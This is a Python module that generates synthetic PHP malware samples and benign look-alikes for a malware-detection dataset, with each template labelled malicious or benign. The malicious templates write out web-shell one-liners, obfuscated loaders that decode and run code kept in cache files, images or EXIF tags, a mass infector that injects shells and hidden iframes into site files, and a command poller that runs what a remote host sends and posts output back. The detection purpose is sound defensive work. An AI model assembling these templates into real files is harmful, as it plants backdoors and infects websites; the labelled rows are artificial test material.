"""Invented variants of payloads kept elsewhere, mass infectors and remote
commands (session 13, branch payload4), for gen_variants.py.

Written from technique descriptions only (the blind held-out set 2 names
them: two_file_store, asset_payload, exif_payload, mass_infector; its files
were not opened): a loader that reads another file (a cache, an icon, a .dat,
a style sheet, a translation file, an option or a transient, the session),
decodes it and runs it; code kept in a picture's EXIF/IPTC metadata or after
an offset in it; a script that walks the directories and writes code into
the files it finds; a command fetched from a URL or read from a socket and
run (an HTTP poller). The writer of a two-file pair is a sample of its own
(a decoded blob stored in a file the reader will run). And the look-alikes
of real applications: a template cache, a plugin's own config, a translation
loader, an image shown inline, a cache unserialized, a URL migration over
every file, a directory guard, a cache warmer, a version check that runs a
fixed program.

Each template takes (g, php_file) and returns the file's text; the text is
scanned, never run.
"""

from phpgen import b64, deflate_raw, php_sq, rot13

import zlib

SHELLS = ["if(isset($_REQUEST['{k}'])){{@eval($_REQUEST['{k}']);}}",
          "@system($_GET['{k}']);",
          "echo shell_exec($_POST['{k}']);",
          "$f=$_COOKIE['{k}'];if($f){{passthru($f);}}"]
ASSET_NAMES = ["favicon.ico", "images/logo.png", "assets/css/theme.min.css", "lang/en_US.po",
               "data/blocks.json", ".thumbs.db", "img/spacer.gif", "fonts/icons.woff"]
STORE_NAMES = [".cache.dat", "cache/.sess_%s", "tmp/.opt_%s.dat", ".htcache", "uploads/.wp-%s.tmp"]


def _shell(g):
    return g.rng.choice(SHELLS).format(k=g.key())


def _encode(g):
    """A decoder chain the loader applies: (PHP expr template with {x},
    transform name)."""
    r = g.rng
    kind = r.choice(["b64", "gz_b64", "rot13_b64", "strrev_b64", "uncompress_b64", "hex", "xor_b64"])
    g.transforms.add("dec:" + kind)
    b = g.fn("base64_decode")
    if kind == "b64":
        return b + "({x})", kind
    if kind == "gz_b64":
        return g.fn("gzinflate") + "(" + b + "({x}))", kind
    if kind == "rot13_b64":
        return b + "(" + g.fn("str_rot13") + "({x}))", kind
    if kind == "strrev_b64":
        return b + "(" + g.fn("strrev") + "({x}))", kind
    if kind == "uncompress_b64":
        return g.fn("gzuncompress") + "(" + b + "({x}))", kind
    if kind == "hex":
        return g.fn("hex2bin") + "({x})", kind
    return b + "({x}) ^ str_repeat('k', 4096)", kind


def _sink(g, code):
    r = g.rng
    kind = r.choice(["eval", "eval", "assert", "create_function", "eval_tag"])
    g.transforms.add("sink:" + kind)
    if kind == "eval":
        return "%s%s(%s);" % (g.at(), "eval", code)
    if kind == "assert":
        return "%s(%s);" % (g.fn("assert"), code)
    if kind == "create_function":
        f = g.var()
        return "%s = %s('', %s);\n%s();" % (f, g.fn("create_function"), code, f)
    return "eval('?>' . %s);" % code


def _where(g, name):
    """A path beside the loader, written the ways loaders write it."""
    r = g.rng
    form = r.choice(["dir", "dirname", "relative", "abspath", "docroot"])
    g.transforms.add("path:" + form)
    if form == "dir":
        return "__DIR__ . %s" % g.lit("/" + name)
    if form == "dirname":
        return "%s(__FILE__) . %s" % (g.fn("dirname"), g.lit("/" + name))
    if form == "relative":
        return g.lit(name)
    if form == "abspath":
        return "ABSPATH . %s" % g.lit("wp-content/" + name)
    return "$_SERVER['DOCUMENT_ROOT'] . %s" % g.lit("/" + name)


def _read(g, path):
    """Statements reading the file at path into a variable: (code, var)."""
    r = g.rng
    d = g.var()
    form = r.choice(["fgc", "fgc", "fopen_fread", "file_implode", "stream", "fgc_offset"])
    g.transforms.add("read:" + form)
    if form == "fgc":
        return "%s = %s%s(%s);\n" % (d, g.at(), g.fn("file_get_contents"), path), d
    if form == "fopen_fread":
        h = g.var()
        return ("%s = %s(%s, 'rb');\n%s = %s(%s, %s(%s));\n%s(%s);\n"
                % (h, g.fn("fopen"), path, d, g.fn("fread"), h, g.fn("filesize"), path, g.fn("fclose"), h)), d
    if form == "file_implode":
        return "%s = %s('', %s(%s));\n" % (d, g.fn("implode"), g.fn("file"), path), d
    if form == "stream":
        h = g.var()
        return "%s = %s(%s, 'r');\n%s = %s(%s);\n" % (h, g.fn("fopen"), path, d, g.fn("stream_get_contents"), h), d
    return "%s = %s(%s, false, null, %d);\n" % (d, g.fn("file_get_contents"), path, r.randint(16, 4000)), d


def t_two_file_reader(g, php_file):
    """The reader of a two-file pair: it reads what the writer stored (a
    file, an option, a transient, the session), decodes it and runs it."""
    r = g.rng
    dec, _ = _encode(g)
    store = r.choice(["file", "file", "option", "transient", "session", "unserialize"])
    g.transforms.add("store:" + store)
    if store == "file":
        name = r.choice(STORE_NAMES)
        if "%s" in name:
            name = name % g.ident().strip("_").lower()
        where = r.choice([_where(g, name), "sys_get_temp_dir() . %s" % g.lit("/" + name.split("/")[-1])])
        code, d = _read(g, where)
    elif store == "option":
        d = g.var()
        code = "%s = %s(%s);\n" % (d, g.fn(r.choice(["get_option", "get_site_option"])), g.lit("_site_" + g.key()))
    elif store == "transient":
        d = g.var()
        code = "%s = %s(%s);\n" % (d, g.fn(r.choice(["get_transient", "get_site_transient"])),
                                   g.lit("feed_" + g.key()))
    elif store == "session":
        d = g.var()
        code = "%s();\n%s = %s$_SESSION[%s];\n" % (g.fn("session_start"), d, g.at(), g.lit(g.key()))
    else:
        name = r.choice(STORE_NAMES)
        c, d0 = _read(g, _where(g, name % "meta" if "%s" in name else name))
        d = g.var()
        code = c + "%s = %s(%s);\n%s = %s[%s];\n" % (d, g.fn("unserialize"), d0, d, d, g.lit(r.choice(["c", "body", "p"])))
    run = _sink(g, dec.format(x=d))
    body = code + "if (%s) {\n    %s\n}\n" % (d, run.replace("\n", "\n    "))
    if r.random() < 0.4:
        f = g.fname()
        body = "function %s()\n{\n    %s}\n%s();\n" % (f, body.replace("\n", "\n    "), f)
    if r.random() < 0.3:
        body = "add_action(%s, function () {\n%s});\n" % (g.lit(r.choice(["init", "wp_loaded", "shutdown"])), body)
    return php_file(g, body)


def t_two_file_writer(g, php_file):
    """The writer of a two-file pair, a sample of its own: it decodes a blob
    it carries (code without an open tag, for the reader's eval) and stores
    it in a cache file, an option or a transient."""
    r = g.rng
    shell = _shell(g)
    kind = r.choice(["b64", "gz", "rot13"])
    g.transforms.add("blob:" + kind)
    if kind == "b64":
        blob = "%s(%s)" % (g.fn("base64_decode"), php_sq(b64(shell)))
    elif kind == "gz":
        blob = "%s(%s(%s))" % (g.fn("gzinflate"), g.fn("base64_decode"), php_sq(b64(deflate_raw(shell.encode()))))
    else:
        blob = "%s(%s)" % (g.fn("str_rot13"), php_sq(rot13(shell)))
    b = g.var()
    g.stmt("%s = %s;" % (b, blob))
    store = r.choice(["file", "file", "option", "transient"])
    g.transforms.add("store:" + store)
    enc = r.choice(["raw", "b64"])
    val = b if enc == "raw" else "%s(%s)" % (g.fn("base64_encode"), b)
    if store == "file":
        name = r.choice(STORE_NAMES)
        if "%s" in name:
            name = name % g.ident().strip("_").lower()
        body = "%s%s(%s, %s);\n" % (g.at(), g.fn("file_put_contents"), _where(g, name), val)
    elif store == "option":
        body = "%s(%s, %s);\n" % (g.fn("update_option"), g.lit("_site_" + g.key()), val)
    else:
        body = "%s(%s, %s, %d);\n" % (g.fn("set_transient"), g.lit("feed_" + g.key()), val, r.choice([3600, 86400]))
    if r.random() < 0.5:
        body += "echo 'ok';\n"
    return php_file(g, body)


def t_asset_payload(g, php_file):
    """A loader reading an .ico/.png/.css/.json/.po next to it (a fixed name
    or a glob), decoding it (or cutting it at an offset) and running it."""
    r = g.rng
    name = r.choice(ASSET_NAMES)
    by = r.choice(["name", "name", "glob"])
    g.transforms.add("asset:" + by)
    if by == "glob":
        f = g.var()
        ext = name.rsplit(".", 1)[1]
        code, d = _read(g, f)
        head = "foreach (%s(%s(__FILE__) . %s) as %s) {\n" % (g.fn("glob"), g.fn("dirname"), g.lit("/*." + ext), f)
        tail = "}\n"
    else:
        code, d = _read(g, _where(g, name))
        head = tail = ""
    cut = r.choice(["none", "substr", "strpos", "marker"])
    g.transforms.add("cut:" + cut)
    p = g.var()
    if cut == "none":
        piece = d
    elif cut == "substr":
        piece = "%s(%s, %d)" % (g.fn("substr"), d, r.randint(40, 3000))
    elif cut == "strpos":
        m = r.choice(["/*@", "#!", "%%", "<!--x"])
        code += "%s = %s(%s, %s(%s, %s) + %d);\n" % (p, g.fn("substr"), d, g.fn("strrpos"), d, g.lit(m), len(m))
        piece = p
    else:
        code += "%s = %s(%s, %s);\n" % (p, g.fn("explode"), g.lit("/*-*/"), d)
        piece = "%s[1]" % p
    dec, _ = _encode(g)
    body = head + code + _sink(g, dec.format(x=piece)) + "\n" + tail
    return php_file(g, body)


def t_exif_payload(g, php_file):
    """Code read from a picture's metadata (EXIF, IPTC through getimagesize's
    APP13) or its bytes after an offset, then run."""
    r = g.rng
    img = r.choice(["wp-content/uploads/2023/04/banner.jpg", "images/header.jpg", "img/avatar.jpeg",
                    "assets/bg.jpg", "../media/photo-2.jpg"])
    path = r.choice([g.lit(img), "__DIR__ . %s" % g.lit("/" + img.split("/")[-1])])
    how = r.choice(["exif", "exif", "exif_computed", "iptc", "offset", "exif_preg"])
    g.transforms.add("exif:" + how)
    e = g.var()
    decode = r.random() < 0.6
    dec = _encode(g)[0] if decode else "{x}"
    if how == "exif":
        tag = r.choice(["Model", "Make", "Artist", "Copyright", "ImageDescription", "Software"])
        code = "%s = %s%s(%s);\n" % (e, g.at(), g.fn("exif_read_data"), path)
        val = "%s[%s]" % (e, g.lit(tag))
    elif how == "exif_computed":
        code = "%s = %s(%s, 'COMPUTED', true);\n" % (e, g.fn("exif_read_data"), path)
        val = "%s['COMPUTED'][%s]" % (e, g.lit(r.choice(["UserComment", "Copyright"])))
    elif how == "iptc":
        i, m = g.var(), g.var()
        code = ("%s(%s, %s);\n%s = %s(%s['APP13']);\n" % (g.fn("getimagesize"), path, i, m, g.fn("iptcparse"), i))
        val = "%s[%s][0]" % (m, g.lit(r.choice(["2#120", "2#116", "2#005"])))
    elif how == "offset":
        h = g.var()
        code = "%s = %s(%s, 'rb');\n%s(%s, %d);\n%s = %s(%s, 65536);\n" % (
            h, g.fn("fopen"), path, g.fn("fseek"), h, r.randint(100, 9000), e, g.fn("fread"), h)
        val = e
    else:
        code = "%s = %s(%s);\n" % (e, g.fn("exif_read_data"), path)
        # the pattern (with /e) in one tag, the code in another: PHP 5's form
        body = code + "%s(%s['Make'], %s['Model'], '');\n" % (g.fn("preg_replace"), e, e)
        body += _sink(g, dec.format(x="%s['Model']" % e)) + "\n"
        return php_file(g, body)
    body = code + _sink(g, dec.format(x=val)) + "\n"
    return php_file(g, body)


def _infect_payload(g):
    """(PHP expression of what is inserted, kind)."""
    r = g.rng
    kind = r.choice(["php", "php_b64", "script", "iframe", "htaccess", "self"])
    g.transforms.add("payload:" + kind)
    if kind == "php":
        return g.lit("<?php " + _shell(g) + " ?>"), kind
    if kind == "php_b64":
        return "%s(%s)" % (g.fn("base64_decode"), php_sq(b64("<?php " + _shell(g) + " ?>"))), kind
    if kind == "script":
        return g.lit('<script src="https://%s.example.net/jquery.min.js"></script>' % g.ident().strip("_").lower()), kind
    if kind == "iframe":
        return g.lit('<iframe src="http://198.51.100.%d/" width="1" height="1" style="display:none"></iframe>'
                     % r.randint(2, 250)), kind
    if kind == "htaccess":
        return g.lit("php_value auto_prepend_file /tmp/.%s.ico\n" % g.ident().strip("_").lower()), kind
    return "%s(__FILE__)" % g.fn("file_get_contents"), kind


def t_mass_infector(g, php_file):
    """Walks the directories (scandir/glob/opendir recursion, the SPL
    iterators, find(1)) and writes code into the files it finds."""
    r = g.rng
    pay, kind = _infect_payload(g)
    c = g.var()
    g.stmt("%s = %s;" % (c, pay))
    f, s = g.var(), g.var()
    target = "'.htaccess'" if kind == "htaccess" else r.choice(["'index.php'", "'wp-config.php'", "'.php'", "'.js'"])
    write = r.choice(["prepend", "append_handle", "replace_tag", "replace_body", "append_flag"])
    if kind == "htaccess":
        write = r.choice(["append_handle", "append_flag"])
    g.transforms.add("write:" + write)
    if write == "prepend":
        w = "%s = %s(%s);\n%s(%s, %s . %s);\n" % (s, g.fn("file_get_contents"), f, g.fn("file_put_contents"), f, c, s)
    elif write == "append_handle":
        h = g.var()
        w = "%s = %s(%s, 'a');\n%s(%s, %s);\n%s(%s);\n" % (h, g.fn("fopen"), f, g.fn(r.choice(["fwrite", "fputs"])),
                                                           h, c, g.fn("fclose"), h)
    elif write == "replace_tag":
        w = "%s = %s(%s);\n%s = %s('<?php', '<?php ' . %s, %s);\n%s(%s, %s);\n" % (
            s, g.fn("file_get_contents"), f, s, g.fn("str_replace"), c, s, g.fn("file_put_contents"), f, s)
    elif write == "replace_body":
        w = "%s = %s(%s);\n%s = %s('</body>', %s . '</body>', %s);\n%s(%s, %s);\n" % (
            s, g.fn("file_get_contents"), f, s, g.fn("str_ireplace"), c, s, g.fn("file_put_contents"), f, s)
    else:
        w = "%s(%s, %s, FILE_APPEND);\n" % (g.fn("file_put_contents"), f, c)
    if r.random() < 0.6:
        t = g.var()
        w = "%s = %s(%s);\n" % (t, g.fn("filemtime"), f) + w + "%s%s(%s, %s);\n" % (g.at(), g.fn("touch"), f, t)
    if r.random() < 0.4:
        w = "%s%s(%s, 0644);\n" % (g.at(), g.fn("chmod"), f) + w
    walk = r.choice(["scandir", "glob", "opendir", "spl", "find"])
    g.transforms.add("walk:" + walk)
    ind = lambda t, n: t.replace("\n", "\n" + " " * n)  # noqa: E731
    match = "%s(%s, %s) !== false" % (g.fn("strpos"), f, target)
    if walk == "scandir":
        fn, d, e = g.fname(), g.var(), g.var()
        body = ("function %s(%s)\n{\n    global %s;\n    foreach (%s(%s) as %s) {\n        if (%s == '.' || %s == '..') continue;\n"
                "        %s = %s . '/' . %s;\n        if (%s(%s)) { %s(%s); continue; }\n"
                "        if (%s) {\n            %s\n        }\n    }\n}\n%s(%s);\n"
                % (fn, d, c, g.fn("scandir"), d, e, e, e, f, d, e, g.fn("is_dir"), f, fn, f, match, ind(w, 12).rstrip(),
                   fn, r.choice(["$_SERVER['DOCUMENT_ROOT']", "'..'", "getcwd()", "'/home'"])))
    elif walk == "glob":
        pat = r.choice(["'../*/*.php'", "'/home/*/public_html/index.php'", "$_SERVER['DOCUMENT_ROOT'] . '/*/*'",
                        "'*/*/*.js'"])
        body = "foreach (%s(%s) as %s) {\n    if (%s) {\n        %s\n    }\n}\n" % (
            g.fn("glob"), pat, f, match, ind(w, 8).rstrip())
    elif walk == "opendir":
        fn, d, dh, e = g.fname(), g.var(), g.var(), g.var()
        body = ("function %s(%s)\n{\n    global %s;\n    %s = %s(%s);\n    while ((%s = %s(%s)) !== false) {\n"
                "        if (%s[0] == '.') continue;\n        %s = \"%s/%s\";\n"
                "        if (%s(%s)) { %s(%s); } elseif (%s) {\n            %s\n        }\n    }\n}\n%s('.');\n"
                % (fn, d, c, dh, g.fn("opendir"), d, e, g.fn("readdir"), dh, e, f, d, e, g.fn("is_dir"), f, fn, f,
                   match, ind(w, 12).rstrip(), fn))
    elif walk == "spl":
        it, o = g.var(), g.var()
        body = ("%s = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(%s));\n"
                "foreach (%s as %s) {\n    %s = %s->getPathname();\n    if (%s) {\n        %s\n    }\n}\n"
                % (it, r.choice(["'/home'", "'.'", "$_SERVER['DOCUMENT_ROOT']"]), it, o, f, o, match,
                   ind(w, 8).rstrip()))
    else:
        l = g.var()
        body = ("%s = %s(\"\\n\", %s(%s));\nforeach (%s as %s) {\n    if (!%s) continue;\n    %s\n}\n"
                % (l, g.fn("explode"), g.fn("shell_exec"),
                   g.lit("find / -name '%s' -writable 2>/dev/null" % target.strip("'").lstrip(".") if target != "'.htaccess'"
                         else "find /home -type d"),
                   l, f, f, ind(w, 4).rstrip()))
    return php_file(g, body)


def t_remote_command(g, php_file):
    """A command fetched from a URL or read from a connection, then run; the
    poller loops and posts the output back."""
    r = g.rng
    host = "%d.%d.%d.%d" % (r.choice([198, 203]), r.choice([51, 0]), r.choice([100, 113]), r.randint(2, 250))
    url = g.lit("http://%s/%s" % (host, r.choice(["task", "c.txt", "api/v1/next", "q.php?id=" + g.ident()])))
    how = r.choice(["fgc", "curl", "fsock", "stream", "wp_remote", "json"])
    g.transforms.add("fetch:" + how)
    c = g.var()
    if how == "fgc":
        fetch = "%s = %s%s(%s);\n" % (c, g.at(), g.fn("file_get_contents"), url)
    elif how == "curl":
        ch = g.var()
        fetch = ("%s = %s(%s);\n%s(%s, CURLOPT_RETURNTRANSFER, true);\n%s = %s(%s(%s));\n"
                 % (ch, g.fn("curl_init"), url, g.fn("curl_setopt"), ch, c, g.fn("trim"), g.fn("curl_exec"), ch))
    elif how == "fsock":
        s = g.var()
        fetch = ("%s = %s(%s, %d, $en, $es, 30);\n%s(%s, \"GET /t HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n\");\n"
                 "%s = '';\nwhile (!%s(%s)) { %s .= %s(%s, 1024); }\n%s = %s(%s(\"\\r\\n\\r\\n\", %s));\n"
                 % (s, g.fn("fsockopen"), php_sq(host), r.choice([80, 443, 8080]), g.fn("fwrite"), s, host,
                    c, g.fn("feof"), s, c, g.fn("fgets"), s, c, g.fn("end"), g.fn("explode"), c))
    elif how == "stream":
        s = g.var()
        fetch = "%s = %s(%s);\n%s = %s(%s);\n" % (s, g.fn("stream_socket_client"), php_sq("tcp://%s:4444" % host),
                                                  c, g.fn("fgets"), s)
    elif how == "wp_remote":
        rr = g.var()
        fetch = "%s = %s(%s);\n%s = %s(%s);\n" % (rr, g.fn("wp_remote_get"), url, c,
                                                  g.fn("wp_remote_retrieve_body"), rr)
    else:
        j = g.var()
        fetch = "%s = %s(%s(%s), true);\n%s = %s['cmd'];\n" % (j, g.fn("json_decode"), g.fn("file_get_contents"), url, c, j)
    if r.random() < 0.35:
        dec = _encode(g)[0]
        fetch += "%s = %s;\n" % (c, dec.format(x=c))
    o = g.var()
    sink = r.choice(["shell_exec", "system", "passthru", "exec", "popen", "proc_open", "backtick"])
    g.transforms.add("sink:" + sink)
    if sink == "shell_exec":
        run = "%s = %s(%s);\n" % (o, g.fn("shell_exec"), c)
    elif sink == "exec":
        run = "%s(%s, %s);\n%s = %s(\"\\n\", %s);\n" % (g.fn("exec"), c, o, o, g.fn("implode"), o)
    elif sink == "popen":
        p = g.var()
        run = "%s = %s(%s, 'r');\n%s = %s(%s);\n" % (p, g.fn("popen"), c, o, g.fn("stream_get_contents"), p)
    elif sink == "proc_open":
        p, pp = g.var(), g.var()
        run = "%s = %s(%s, array(1 => array('pipe', 'w')), %s);\n%s = %s(%s[1]);\n" % (
            p, g.fn("proc_open"), c, pp, o, g.fn("stream_get_contents"), pp)
    elif sink == "backtick":
        run = "%s = `%s`;\n" % (o, c)
    else:
        run = "%s();\n%s(%s);\n%s = %s();\n" % (g.fn("ob_start"), g.fn(sink), c, o, g.fn("ob_get_clean"))
    back = ""
    if r.random() < 0.6:
        back = "%s(%s . '?r=' . %s(%s));\n" % (g.fn("file_get_contents"), g.lit("http://%s/r" % host),
                                                g.fn(r.choice(["urlencode", "base64_encode"])), o)
    core = fetch + "if (%s) {\n    %s}\n" % (c, (run + back).replace("\n", "\n    "))
    if r.random() < 0.6:
        g.transforms.add("loop")
        core = ("%s(0);\n%s(true);\nwhile (true) {\n    %s    %s(%d);\n}\n"
                % (g.fn("set_time_limit"), g.fn("ignore_user_abort"), core.replace("\n", "\n    "),
                   g.fn("sleep"), r.choice([5, 30, 60])))
    return php_file(g, core)


# ---------------------------------------------------------------- look-alikes


def b_template_cache(g, php_file):
    r = g.rng
    body = ("function acme_render($name, array $vars)\n{\n    $src = __DIR__ . '/views/' . basename($name) . '.tpl';\n"
            "    $out = __DIR__ . '/cache/' . md5($src . filemtime($src)) . '.php';\n"
            "    if (!is_file($out)) {\n        $tpl = file_get_contents($src);\n"
            "        $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?php echo htmlspecialchars($$1); ?>', $tpl);\n"
            "        file_put_contents($out, $php, LOCK_EX);\n    }\n    extract($vars, EXTR_SKIP);\n")
    body += r.choice(["    include $out;\n}\n", "    eval('?>' . file_get_contents($out));\n}\n"])
    body += "acme_render('home', array('title' => 'Welcome'));\n"
    return php_file(g, body)


def b_own_config(g, php_file):
    r = g.rng
    fmt = r.choice(["json", "ini", "b64json"])
    if fmt == "json":
        read = "$cfg = json_decode(file_get_contents(__DIR__ . '/config.json'), true);\n"
    elif fmt == "ini":
        read = "$cfg = parse_ini_file(dirname(__FILE__) . '/settings.ini', true);\n"
    else:
        read = "$cfg = json_decode(base64_decode(get_option('acme_settings')), true);\n"
    body = read + ("$cfg = is_array($cfg) ? $cfg : array();\ndefine('ACME_API', $cfg['api'] ?? 'https://api.example.com');\n"
                   "if (!empty($cfg['debug'])) {\n    error_reporting(E_ALL);\n}\n")
    return php_file(g, body)


def b_mo_loader(g, php_file):
    body = ("function acme_load_mo($file)\n{\n    $mo = file_get_contents($file);\n    if (strlen($mo) < 28) return array();\n"
            "    $h = unpack('V7', substr($mo, 0, 28));\n    $out = array();\n"
            "    for ($i = 0; $i < $h[3]; $i++) {\n        $o = unpack('V2', substr($mo, $h[4] + $i * 8, 8));\n"
            "        $t = unpack('V2', substr($mo, $h[5] + $i * 8, 8));\n"
            "        $out[substr($mo, $o[2], $o[1])] = substr($mo, $t[2], $t[1]);\n    }\n    return $out;\n}\n"
            "$GLOBALS['acme_l10n'] = acme_load_mo(__DIR__ . '/languages/acme-' . get_locale() . '.mo');\n")
    return php_file(g, body)


def b_inline_image(g, php_file):
    r = g.rng
    body = r.choice([
        "$png = file_get_contents(__DIR__ . '/assets/logo.png');\n"
        "echo '<img alt=\"logo\" src=\"data:image/png;base64,' . base64_encode($png) . '\">';\n",
        "$svg = base64_decode(get_option('acme_icon'));\nheader('Content-Type: image/svg+xml');\necho $svg;\n",
        "$e = @exif_read_data(__DIR__ . '/photos/' . basename($_GET['p'] ?? 'a.jpg'));\n"
        "echo '<dl><dt>Camera</dt><dd>' . htmlspecialchars($e['Model'] ?? '?') . '</dd></dl>';\n",
    ])
    return php_file(g, body)


def b_cache_unserialize(g, php_file):
    body = ("$file = WP_CONTENT_DIR . '/cache/acme-' . md5(home_url()) . '.ser';\n"
            "$data = is_file($file) ? @unserialize(file_get_contents($file), array('allowed_classes' => false)) : false;\n"
            "if (!is_array($data)) {\n    $data = acme_build();\n    file_put_contents($file, serialize($data));\n}\n"
            "echo count($data) . ' items';\n")
    return php_file(g, body)


def b_url_migration(g, php_file):
    r = g.rng
    walk = r.choice(["spl", "scandir", "glob"])
    w = ("    $c = file_get_contents($f);\n    $n = str_replace(array('http://old.example.com', 'http:\\/\\/old.example.com'),"
         " array('https://www.example.com', 'https:\\/\\/www.example.com'), $c);\n"
         "    if ($n !== $c) {\n        file_put_contents($f, $n);\n        $count++;\n    }\n")
    if walk == "spl":
        body = ("$count = 0;\n$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(ABSPATH . 'wp-content'));\n"
                "foreach ($it as $file) {\n    if (!preg_match('/\\.(html|css|js)$/', $file)) continue;\n"
                "    $f = $file->getPathname();\n" + w + "}\necho $count . ' files updated';\n")
    elif walk == "scandir":
        body = ("$count = 0;\nfunction acme_files($d, &$out)\n{\n    foreach (scandir($d) as $e) {\n"
                "        if ($e[0] == '.') continue;\n        is_dir(\"$d/$e\") ? acme_files(\"$d/$e\", $out) : $out[] = \"$d/$e\";\n"
                "    }\n}\n$list = array();\nacme_files(__DIR__ . '/static', $list);\nforeach ($list as $f) {\n" + w + "}\n")
    else:
        body = "$count = 0;\nforeach (glob(__DIR__ . '/pages/*.html') as $f) {\n" + w + "}\n"
    return php_file(g, body)


def b_dir_guard(g, php_file):
    body = ("$base = wp_upload_dir();\nforeach (glob($base['basedir'] . '/*', GLOB_ONLYDIR) as $d) {\n"
            "    if (!file_exists($d . '/index.php')) {\n        file_put_contents($d . '/index.php', \"<?php\\n// Silence is golden.\\n\");\n    }\n"
            "    if (!file_exists($d . '/.htaccess')) {\n        file_put_contents($d . '/.htaccess', \"Options -Indexes\\n<Files *.php>\\ndeny from all\\n</Files>\\n\");\n    }\n}\n")
    return php_file(g, body)


def b_cache_warmer(g, php_file):
    body = ("$urls = array();\nforeach (glob(__DIR__ . '/content/*.md') as $p) {\n"
            "    $urls[] = 'https://www.example.com/' . basename($p, '.md') . '/';\n}\n"
            "foreach ($urls as $u) {\n    $ch = curl_init($u);\n    curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n"
            "    $html = curl_exec($ch);\n    file_put_contents(__DIR__ . '/cache/' . md5($u) . '.html', $html);\n}\n")
    return php_file(g, body)


def b_version_exec(g, php_file):
    r = g.rng
    body = r.choice([
        "$v = trim(file_get_contents('https://api.example.org/acme/latest'));\n"
        "if (preg_match('/^v?[0-9.]+$/', $v)) {\n    exec('git -C ' . escapeshellarg(__DIR__) . ' checkout ' . escapeshellarg($v), $out, $rc);\n}\n",
        "$zip = download_url('https://downloads.example.org/acme.zip');\n"
        "if (!is_wp_error($zip)) {\n    exec('unzip -o ' . escapeshellarg($zip) . ' -d ' . escapeshellarg(WP_PLUGIN_DIR));\n}\n",
        "$ch = curl_init('https://status.example.com/health');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n"
        "$ok = curl_exec($ch) === 'ok';\nif (!$ok) {\n    exec('/usr/local/bin/acme-alert --down');\n}\n",
    ])
    return php_file(g, body)


def payload_templates(php_file):
    """The (name, fn, class, lang, expect) rows, each fn bound to php_file."""
    def bind(fn):
        return lambda g: fn(g, php_file)
    return [
        ("two_file_reader", bind(t_two_file_reader), "malicious", "php", "high"),
        ("two_file_writer", bind(t_two_file_writer), "malicious", "php", "high"),
        ("asset_loader", bind(t_asset_payload), "malicious", "php", "high"),
        ("exif_loader", bind(t_exif_payload), "malicious", "php", "high"),
        ("mass_infector", bind(t_mass_infector), "malicious", "php", "high"),
        ("remote_cmd", bind(t_remote_command), "malicious", "php", "high"),
        ("template_cache", bind(b_template_cache), "benign", "php", "none"),
        ("own_config", bind(b_own_config), "benign", "php", "none"),
        ("mo_loader", bind(b_mo_loader), "benign", "php", "none"),
        ("inline_image", bind(b_inline_image), "benign", "php", "none"),
        ("cache_unserialize", bind(b_cache_unserialize), "benign", "php", "none"),
        ("url_migration", bind(b_url_migration), "benign", "php", "none"),
        ("dir_guard", bind(b_dir_guard), "benign", "php", "none"),
        ("cache_warmer", bind(b_cache_warmer), "benign", "php", "none"),
        ("version_exec", bind(b_version_exec), "benign", "php", "none"),
    ]
